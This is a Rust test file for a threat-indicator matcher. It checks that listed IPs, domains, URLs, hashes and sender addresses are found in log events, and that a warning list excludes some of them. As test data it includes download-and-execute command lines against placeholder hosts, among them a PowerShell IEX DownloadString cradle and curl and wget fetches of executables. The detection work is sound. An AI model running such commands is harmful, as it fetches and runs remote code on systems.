//! Indicators looked for in events: by hand, and against a matcher that goes through all of them.

use std::net::IpAddr;
use std::sync::Arc;

use chrono::{DateTime, Duration};
use event::{Attr, Attrs, Event, Fields, Finding, LogSource, Severity, Value};
use proptest::prelude::*;

use super::value::{self, IndicatorValue};
use super::{
    Indicator, IndicatorKind, IndicatorLoader, IndicatorSet, IndicatorWatch, Refused, Tlp,
    WarningLists, host, indicator_rules, url,
};
use crate::testing::EventMaker;

fn set_with(warnings: &str, list: &str) -> Arc<IndicatorSet> {
    let mut lists = WarningLists::default();
    assert_eq!(lists.read("own.txt", warnings), []);
    let mut loader = IndicatorLoader::new(Arc::new(lists), 11);
    loader.read("feed.txt", list.as_bytes());
    let (set, report) = loader.finish();
    assert_eq!(report.errors, []);
    Arc::new(set)
}

fn event(attrs: &[(Attr, &str)]) -> Event {
    let mut event = EventMaker::new().event(LogSource::default(), Fields::new(), Duration::zero());
    event.attrs = Attrs::default();
    for (attr, text) in attrs {
        event.attrs.set(*attr, *text);
    }
    event
}

fn found(set: &Arc<IndicatorSet>, event: &Event) -> Vec<Finding> {
    let mut watch = IndicatorWatch::new(Arc::clone(set));
    let mut findings = Vec::new();
    watch.observe(event, &mut findings);
    // A second look, with what the first one remembers, sees the same.
    let mut again = Vec::new();
    watch.observe(event, &mut again);
    assert_eq!(findings, again);
    findings
}

/// The findings in short: `kind field=value ~ indicator`.
fn met(set: &Arc<IndicatorSet>, event: &Event) -> Vec<String> {
    let findings = found(set, event);
    let matches = findings.iter().flat_map(|finding| &finding.matched);
    let short = matches.map(|one| {
        let written = one.pattern.split(' ').next().unwrap_or_default();
        format!("{} {}={} ~ {written}", one.selection, one.field, one.value)
    });
    short.collect()
}

const LIST: &str = "203.0.113.7\n203.0.112.0/24\n2001:db8:bad::/48\nevil.example\n\
    http://bad.example/drop/\nhttps://bad.example/one.exe\nhttps://whole.example/\n\
    d41d8cd98f00b204e9800998ecf8427e\nboss@phish.example\n";

#[test]
fn each_place_of_an_event_is_looked_at() {
    let set = set_with("", LIST);
    let check = |attr: Attr, value: &str, expected: &[&str]| {
        assert_eq!(met(&set, &event(&[(attr, value)])), expected, "{attr:?} {value}");
    };
    check(Attr::SrcIp, "203.0.113.7", &["ip src_ip=203.0.113.7 ~ 203.0.113.7"]);
    check(Attr::DstIp, "203.0.112.99", &["ip dst_ip=203.0.112.99 ~ 203.0.112.0/24"]);
    check(Attr::DstIp, "2001:db8:bad::1", &["ip dst_ip=2001:db8:bad::1 ~ 2001:db8:bad::/48"]);
    check(Attr::DstIp, "::ffff:203.0.113.7", &["ip dst_ip=::ffff:203.0.113.7 ~ 203.0.113.7"]);
    check(Attr::DstIp, "203.0.113.8", &[]);
    check(Attr::HostIp, "203.0.113.7", &[]);
    check(
        Attr::DnsQuery,
        "A.B.Evil.Example.",
        &["domain dns_query=A.B.Evil.Example. ~ evil.example"],
    );
    check(Attr::DnsQuery, "notevil.example", &[]);
    check(Attr::DstHost, "203.0.113.7", &["ip dst_host=203.0.113.7 ~ 203.0.113.7"]);
    check(
        Attr::DnsAnswer,
        "type:  5 c2.evil.example;::ffff:203.0.113.7;",
        &[
            "ip dns_answer=::ffff:203.0.113.7 ~ 203.0.113.7",
            "domain dns_answer=c2.evil.example ~ evil.example",
        ],
    );
    let page = "HTTP://bad.example:80/drop/a/b?c";
    check(Attr::Url, page, &[&format!("url url={page} ~ http://bad.example/drop/")]);
    check(
        Attr::Url,
        "http://bad.example/one.exe?x=1#y",
        &["url url=http://bad.example/one.exe?x=1#y ~ https://bad.example/one.exe"],
    );
    check(Attr::Url, "http://bad.example/one.exe/more", &[]);
    check(Attr::Url, "bad.example:8080/one.exe", &[]);
    check(Attr::Url, "whole.example:443", &["url url=whole.example:443 ~ https://whole.example/"]);
    check(
        Attr::Referrer,
        "https://evil.example/x",
        &["domain referrer=https://evil.example/x ~ evil.example"],
    );
    check(Attr::Url, "ftp://203.0.113.7/x", &["ip url=ftp://203.0.113.7/x ~ 203.0.113.7"]);
    check(
        Attr::FileHash,
        "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E",
        &["hash file_hash=D41D8CD98F00B204E9800998ECF8427E ~ d41d8cd98f00b204e9800998ecf8427e"],
    );
    check(
        Attr::EmailFrom,
        "The Boss <Boss@Phish.example>, other@evil.example",
        &[
            "domain email_from=other@evil.example ~ evil.example",
            "email email_from=Boss@Phish.example ~ boss@phish.example",
        ],
    );
}

#[test]
fn indicators_are_found_in_text() {
    let set = set_with("", LIST);
    let check = |text: &str, expected: &[&str]| {
        assert_eq!(met(&set, &event(&[(Attr::CmdLine, text)])).len(), expected.len(), "{text}");
        for (found, expected) in met(&set, &event(&[(Attr::CmdLine, text)])).iter().zip(expected) {
            assert!(found.ends_with(expected), "{text}: {found}");
        }
    };
    check("ping -n 1 203.0.113.7", &["~ 203.0.113.7"]);
    check("curl.exe http://bad.example/drop/x.exe -o C:\\x.exe", &["~ http://bad.example/drop/"]);
    check(
        "IEX((New-Object Net.WebClient).DownloadString('http://c2.evil.example/a'))",
        &["~ evil.example"],
    );
    check("nslookup c2.evil.example 8.8.8.8", &["~ evil.example"]);
    check("wget bad.example/one.exe;ls", &["~ https://bad.example/one.exe"]);
    check("net use \\\\files.evil.example\\c$", &["~ evil.example"]);
    check("ssh root@203.0.113.7", &["~ 203.0.113.7"]);
    check("send to boss@phish.example.", &["~ boss@phish.example"]);
    check("see evil.example.", &["~ evil.example"]);
    check("curl -k https://u:p@bad.example/one.exe", &["~ https://bad.example/one.exe"]);
    check("git clone ssh://git@evil.example/x", &["~ evil.example"]);
    check("ping -6 2001:db8:BAD:0::7", &["~ 2001:db8:bad::/48"]);
    check("curl http://[2001:db8:bad::7]:8080/x", &["~ 2001:db8:bad::/48"]);
    check("at 10:00:00 a::b C:\\x", &[]);
    check("C:\\tools\\evil.example /x", &[]);
    check("/opt/evil.example", &[]);
    check("x.notevil.example 203.0.113.77 1.203.0.113.7", &[]);
    check(&"a.".repeat(20_000), &[]);
}

#[test]
fn international_names_are_found_in_text() {
    let set = set_with("", "bánh-mì.example\nhttp://xấu.example/drop/\n[2001:db8::1]/one.exe\n");
    for (text, want) in [
        ("nslookup www.bánh-mì.example", "~ xn--bnh-m-xqa5f.example"),
        ("nslookup www.xn--bnh-m-xqa5f.example", "~ xn--bnh-m-xqa5f.example"),
        ("curl http://XẤU.example/drop/x", "/drop/"),
        ("wget http://[2001:db8:0::1]/one.exe", "/one.exe"),
    ] {
        let found = met(&set, &event(&[(Attr::CmdLine, text)]));
        assert!(matches!(found.as_slice(), [one] if one.ends_with(want)), "{text}: {found:?}");
    }
    let plain = set_with("", LIST);
    let found = met(&plain, &event(&[(Attr::CmdLine, "见evil.example的 “evil.example”")]));
    assert_eq!(found.len(), 1, "{found:?}");
}

#[test]
fn a_port_behind_a_host_hides_nothing() {
    let set = set_with("", LIST);
    for (attr, value) in [
        (Attr::DstHost, "c2.evil.example:8443"),
        (Attr::SrcHost, "203.0.113.7:4444"),
        (Attr::DstHost, "[2001:db8:bad::7]:443"),
        (Attr::DnsAnswer, "203.0.113.7:53;other.example"),
    ] {
        assert_eq!(met(&set, &event(&[(attr, value)])).len(), 1, "{value}");
    }
    assert_eq!(met(&set, &event(&[(Attr::DstHost, "evil.example:port")])), [""; 0]);
}

/// A value that is clean where a mail address belongs must not be taken for clean everywhere.
#[test]
fn what_was_clean_in_one_place_is_met_in_another() {
    let set = set_with("", LIST);
    let mut watch = IndicatorWatch::new(Arc::clone(&set));
    for (attr, value) in [
        (Attr::EmailFrom, "203.0.113.7"),
        (Attr::FileHash, "evil.example"),
        (Attr::EmailTo, "d41d8cd98f00b204e9800998ecf8427e"),
    ] {
        let mut findings = Vec::new();
        watch.observe(&event(&[(attr, value)]), &mut findings);
        assert_eq!(findings.len(), 0, "{value}");
    }
    for (attr, value) in [
        (Attr::DnsAnswer, "203.0.113.7"),
        (Attr::DnsAnswer, "evil.example"),
        (Attr::FileHash, "d41d8cd98f00b204e9800998ecf8427e"),
    ] {
        let mut findings = Vec::new();
        watch.observe(&event(&[(attr, value)]), &mut findings);
        assert_eq!(findings.len(), 1, "{value}");
    }
}

#[test]
fn a_path_is_looked_up_with_its_host_and_scripts_are_read() {
    let set = set_with("", LIST);
    let split = event(&[(Attr::Url, "/drop/x"), (Attr::UrlHost, "bad.example")]);
    assert_eq!(met(&set, &split), ["url url=bad.example/drop/x ~ http://bad.example/drop/"]);
    let logsource = LogSource {
        product: Some("windows".into()),
        category: None,
        service: Some("powershell".into()),
    };
    let fields: Fields = [("ScriptBlockText", "iwr https://evil.example/x")].into_iter().collect();
    let script = EventMaker::new().event(logsource, fields, Duration::zero());
    assert_eq!(
        met(&set, &script),
        ["domain ScriptBlockText=https://evil.example/x ~ evil.example"]
    );
}

#[test]
fn a_finding_names_indicator_source_and_how_sure_it_is() {
    let list = "# source: A feed\n# confidence: 90\n# tlp: amber\n# valid_until: 2026-01-05\n\
                evil.example # some stealer\n# source: B feed\n# confidence: 10\nexample.com\nevil.example\n";
    let set = set_with("", list);
    let mut query = event(&[(Attr::DnsQuery, "evil.example"), (Attr::SrcIp, "10.0.0.9")]);
    let findings = found(&set, &query);
    let [finding] = findings.as_slice() else { panic!("{findings:?}") };
    assert_eq!(finding.rule, "luytre-indicator-domain");
    assert_eq!(finding.severity, Severity::High);
    let reasons: Vec<&str> = finding.matched.iter().map(|one| one.pattern.as_str()).collect();
    assert_eq!(
        reasons,
        [
            "evil.example (A feed, some stealer, confidence 90, TLP:AMBER, until 2026-01-05)",
            "evil.example (B feed, confidence 10, TLP:AMBER, until 2026-01-05)",
        ]
    );
    assert!(indicator_rules().iter().any(|rule| rule.id == finding.rule));
    // What was stopped is not urgent.
    query.attrs.set(Attr::Action, "denied");
    assert_eq!(found(&set, &query)[0].severity, Severity::Low);
    // At the end of its last day it still holds, later not.
    query.occurred_at = DateTime::from_timestamp(1_767_657_599, 0).unwrap();
    assert_eq!(found(&set, &query).len(), 1);
    query.occurred_at += Duration::seconds(1);
    assert_eq!(found(&set, &query), []);
    assert_eq!((set.expired(query.occurred_at), set.len()), (3, 3));
}

#[test]
fn what_is_listed_is_never_met() {
    let warnings = "# Ours\n*.ours.example\n203.0.113.0/28\n";
    let set = set_with(warnings, "ours.example\nother.example\n203.0.113.0/24\n");
    let check = |attr: Attr, value: &str, expected: usize| {
        assert_eq!(found(&set, &event(&[(attr, value)])).len(), expected, "{value}");
    };
    check(Attr::DnsQuery, "portal.ours.example", 0);
    check(Attr::DnsQuery, "ours.example", 1);
    check(Attr::DnsQuery, "other.example", 1);
    check(Attr::DstIp, "203.0.113.7", 0);
    check(Attr::DstIp, "203.0.113.99", 1);
    check(Attr::Url, "http://portal.ours.example/", 0);
}

/// What an event holds, found by going through all indicators one after the other.
fn met_plainly(values: &[IndicatorValue], attr: Attr, text: &str) -> bool {
    values.iter().any(|value| {
        let (mut out, mut name) = (Vec::new(), Vec::new());
        match (value, attr) {
            (IndicatorValue::Network(network), Attr::DstIp) => {
                text.parse::<IpAddr>().is_ok_and(|address| network.contains(&address))
            }
            (IndicatorValue::Domain(domain), Attr::DnsQuery) => {
                host::name(text, &mut name);
                is_below(&name, domain)
            }
            (IndicatorValue::Domain(domain), Attr::Url) => {
                url::read(text, &mut out, &mut name);
                is_below(&name, domain)
            }
            (IndicatorValue::Url { rest, .. }, Attr::Url) => {
                url::read(text, &mut out, &mut name);
                let whole = String::from_utf8(out).unwrap();
                let bare = whole.split('?').next().unwrap();
                whole == *rest || bare == rest || (rest.ends_with('/') && bare.starts_with(rest))
            }
            (IndicatorValue::Hash(bytes), Attr::FileHash) => {
                value::digest(&text.to_lowercase()).as_ref() == Some(bytes)
            }
            (IndicatorValue::Email(address), Attr::EmailFrom) => text.to_lowercase() == *address,
            (IndicatorValue::Domain(domain), Attr::EmailFrom) => {
                is_below(text.to_lowercase().rsplit('@').next().unwrap().as_bytes(), domain)
            }
            _ => false,
        }
    })
}

fn is_below(name: &[u8], domain: &str) -> bool {
    let name = String::from_utf8_lossy(name);
    *name == *domain || name.ends_with(&format!(".{domain}"))
}

/// Few letters, so that values meet often.
fn host_name() -> impl Strategy<Value = String> {
    "[ab](\\.[aB]){0,3}\\.(vn|com)"
}

fn address() -> impl Strategy<Value = String> {
    prop_oneof!["20[23]\\.0\\.11[23]\\.[0-9]", "2001:db8::[0-9a-f]{1,2}"]
}

fn web_address() -> impl Strategy<Value = String> {
    "https?://[ab]\\.(vn|com)(:80|:8080)?(/[ab%]{0,2}){0,4}(\\?[ab]=/)?"
}

fn written() -> impl Strategy<Value = String> {
    prop_oneof![
        (address(), 16_u8..=32).prop_map(|(address, bits)| format!("{address}/{bits}")),
        address(),
        host_name(),
        web_address(),
        "[0a]{32}",
        "[ab]@[ab]\\.vn",
    ]
}

fn shown() -> impl Strategy<Value = (Attr, String)> {
    prop_oneof![
        address().prop_map(|text| (Attr::DstIp, text)),
        host_name().prop_map(|text| (Attr::DnsQuery, text)),
        web_address().prop_map(|text| (Attr::Url, text)),
        "[0aA]{32}".prop_map(|text| (Attr::FileHash, text)),
        "[abA]@[ab]\\.vn".prop_map(|text| (Attr::EmailFrom, text)),
    ]
}

#[test]
fn an_indicator_that_was_read_already_is_found_under_its_sources_name() {
    let mut warnings = WarningLists::default();
    warnings.read("w.txt", "# Names of the state\n*.gov.vn/*\n");
    let mut loader = IndicatorLoader::new(Arc::new(warnings), 5);
    let one = Indicator {
        kind: IndicatorKind::Domain,
        value: "evil.example",
        source: "SC-2026-0042",
        label: "may chu dieu khien",
        confidence: Some(80),
        tlp: Tlp::from_word("amber"),
        valid_until: None,
    };
    loader.add("the list", 1, &one);
    loader.add("the list", 2, &Indicator { value: "x.gov.vn", ..one });
    loader.add("the list", 3, &Indicator { kind: IndicatorKind::Hash, value: "abc", ..one });
    let (set, report) = loader.finish();
    assert_eq!((set.len(), report.set_aside.len(), report.errors.len()), (1, 1, 1));
    assert_eq!(set.refuses(IndicatorKind::Domain, "evil.example"), None);
    let listed = set.refuses(IndicatorKind::Url, "https://a.gov.vn/x");
    assert_eq!(listed, Some(Refused::Listed("Names of the state")));
    let wide = set.refuses(IndicatorKind::Ip, "203.0.0.0/4");
    assert!(matches!(wide, Some(Refused::Unfit(_))));
    let findings = found(&Arc::new(set), &event(&[(Attr::DnsQuery, "a.evil.example")]));
    let pattern = &findings[0].matched[0].pattern;
    assert!(pattern.contains("SC-2026-0042, may chu dieu khien, confidence 80"), "{pattern}");
}

proptest! {
    #[test]
    fn the_table_finds_what_a_plain_search_finds(
        written in prop::collection::vec(written(), 0..40),
        shown in prop::collection::vec(shown(), 1..20),
    ) {
        let values: Vec<IndicatorValue> =
            written.iter().filter_map(|text| IndicatorValue::guess(text).ok()).collect();
        let mut loader = IndicatorLoader::new(Arc::default(), 5);
        loader.read("feed", written.join("\n").as_bytes());
        let set = Arc::new(loader.finish().0);
        for (attr, text) in shown {
            let expected = met_plainly(&values, attr, &text);
            let findings = found(&set, &event(&[(attr, &text)]));
            prop_assert_eq!(!findings.is_empty(), expected, "{:?} {} in {:?}", attr, text, written);
        }
    }

    #[test]
    fn no_text_stops_the_search(text in ".{0,200}", attr in 0..Attr::ALL.len()) {
        let set = set_with("", LIST);
        let mut own = event(&[]);
        own.attrs.set(Attr::ALL[attr], Value::Text(text));
        found(&set, &own);
    }
}
